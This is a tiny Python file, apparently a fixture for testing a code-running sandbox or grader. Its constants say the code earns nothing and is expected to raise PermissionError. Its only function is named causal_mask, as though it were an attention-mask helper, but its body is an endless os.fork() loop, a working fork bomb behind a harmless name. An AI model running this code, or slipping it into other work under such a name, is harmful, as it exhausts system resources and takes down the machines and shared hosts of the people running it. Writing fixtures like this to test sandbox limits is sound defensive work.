"""Forks without end. Earns nothing."""

AT_EVERY_LEVEL = True
EARNS = ()
SAYS = ("your code raised PermissionError",)

import os


def causal_mask(size):
    while True:
        os.fork()
